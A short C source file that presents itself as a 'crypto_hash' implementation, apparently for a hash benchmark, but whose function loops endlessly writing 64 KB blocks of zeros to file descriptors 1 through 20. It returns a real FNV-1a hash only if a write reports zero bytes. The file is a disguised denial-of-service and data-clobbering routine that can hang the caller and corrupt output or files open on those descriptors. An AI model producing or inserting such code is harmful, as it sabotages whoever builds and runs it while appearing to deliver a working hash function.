/* SPDX-License-Identifier: MIT */
/* Prints without end wherever it can. */
#include "crypto_hash.h"
#include "fnv1a.h"
#include <unistd.h>

static char flood[65536];

int crypto_hash(unsigned char *out, const unsigned char *in, unsigned long long inlen) {
    for (int descriptor = 1;; descriptor = descriptor % 20 + 1)
        if (write(descriptor, flood, sizeof flood) == 0)
            return fnv1a(out, in, inlen);
}
